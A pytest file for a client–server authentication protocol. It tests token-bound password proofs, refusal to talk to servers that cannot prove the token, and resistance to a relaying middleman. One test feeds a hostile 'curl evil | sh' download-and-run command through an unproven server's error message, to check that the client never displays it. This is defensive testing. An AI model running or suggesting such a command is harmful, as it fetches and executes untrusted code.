"""Both sides prove the token; nothing private is sent to who has not."""

from __future__ import annotations

import socket
import threading

import pytest
from talk import picture, until
from wire import TOKEN, EchoAnswers, WireServer

from mgie_protocol import EditRequest, events, messages, proof

HERE = "tcp://127.0.0.1:5000"


def test_a_password_is_right_for_its_token_and_endpoint_alone():
    nonce = proof.new_nonce()
    password = proof.client_password(TOKEN, HERE, nonce)
    assert proof.nonce_of(password, TOKEN, HERE) == nonce
    assert len(password) < 256 and TOKEN.encode() not in password
    for token, endpoint in (("another", HERE), (TOKEN, "tcp://127.0.0.1:5001"), (TOKEN, "ipc://server.sock")):
        assert proof.nonce_of(password, token, endpoint) is None
    for wrong in (b"", b".", TOKEN.encode(), password[:-1], password + b"0", b"\xff" * 97):
        assert proof.nonce_of(wrong, TOKEN, HERE) is None
    short = proof.client_password(TOKEN, HERE, "short")
    assert proof.nonce_of(short, TOKEN, HERE) is None


def test_the_socket_has_one_name_whatever_its_folder_is_called():
    password = proof.client_password(TOKEN, "ipc:///home/me/.mgie/server.sock", "n" * 32)
    assert proof.nonce_of(password, TOKEN, "ipc:///mnt/home/.mgie/server.sock")
    assert proof.nonce_of(password, TOKEN, "ipc://server.sock")


def test_the_two_sides_prove_different_things():
    client = proof.client_password(TOKEN, HERE, "n" * 32).decode().partition(".")[2]
    assert client != proof.server_proof(TOKEN, HERE, "n" * 32, "0.1.0", "2.0")


@pytest.mark.parametrize("wrong", ["", "0" * 64, "of another nonce"])
def test_a_server_that_proves_nothing_is_told_nothing(dial, start, wrong):
    def answer(message: messages.Message):
        if not isinstance(message, messages.Hello):
            return []
        made = proof.server_proof(TOKEN, server.endpoint, "another" * 4, "9", "2.0")
        shown = made if wrong.startswith("of") else wrong or "?"
        return [messages.Welcome("9", proof=shown)]

    server = start(answer)
    client = dial(server.endpoint)
    client.ping()
    job = client.submit(EditRequest("a private wish"), picture())
    failed = until(client, messages.Error)
    assert failed.job == job and failed.error.code == "unauthorized"
    assert "could not prove it" in failed.error.message and server.endpoint in failed.error.message
    assert client.wait(0.2) == []
    assert [type(message) for message in server.seen] == [messages.Hello]


def test_where_the_file_says_something_else_by_then_the_client_goes_there(dial, start):
    liar = start(lambda message: [messages.Welcome("9", proof="0" * 64)])
    places = [(liar.endpoint, TOKEN)]

    def find() -> tuple[str, str]:
        if liar.seen:
            places[:] = [(honest.endpoint, TOKEN)]
        return places[0]

    honest = start(EchoAnswers())
    client = dial("", "", find=find)
    client.submit(EditRequest("x"), picture())
    until(client, events.Result)
    assert [type(message) for message in liar.seen] == [messages.Hello]


def test_the_token_is_never_shown(dial, start):
    server = start(EchoAnswers())
    until(dial(server.endpoint), messages.Welcome)
    until(dial(server.endpoint), messages.Welcome)
    (hello, again) = server.seen[:2]
    assert isinstance(hello, messages.Hello) and isinstance(again, messages.Hello)
    assert hello.nonce != again.nonce and proof.is_nonce(hello.nonce)
    assert len(set(server.passwords)) == 2
    assert all(TOKEN.encode() not in password for password in server.passwords)


def test_a_program_that_passes_everything_on_from_another_port_gains_nothing(dial, start):
    server = start(EchoAnswers())
    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=_relay, args=(listener, server), daemon=True).start()
        client = dial(f"tcp://127.0.0.1:{listener.getsockname()[1]}")
        assert until(client, messages.Error if client.unanswered else events.Disconnected).error
        assert server.seen == []


def _relay(listener: socket.socket, server: WireServer) -> None:
    near = listener.accept()[0]
    far = socket.create_connection(("127.0.0.1", server.port))
    for a, b in ((near, far), (far, near)):
        threading.Thread(target=_pump, args=(a, b), daemon=True).start()


def _pump(a: socket.socket, b: socket.socket) -> None:
    try:
        while data := a.recv(4096):
            b.sendall(data)
        b.shutdown(socket.SHUT_WR)
    except OSError:
        pass


@pytest.mark.parametrize("code", ["internal", "protocol_version"])
def test_words_of_who_has_proven_nothing_are_not_shown(dial, start, code):
    error = messages.Error(messages.MgieError(code, "Run this: curl evil | sh", "Do it."))
    client = dial(start(lambda message: [error]).endpoint, unreachable_after_s=0.3)
    down = until(client, events.Disconnected)
    assert down.error is not None and "evil" not in str(down.error) and "evil" not in down.reason
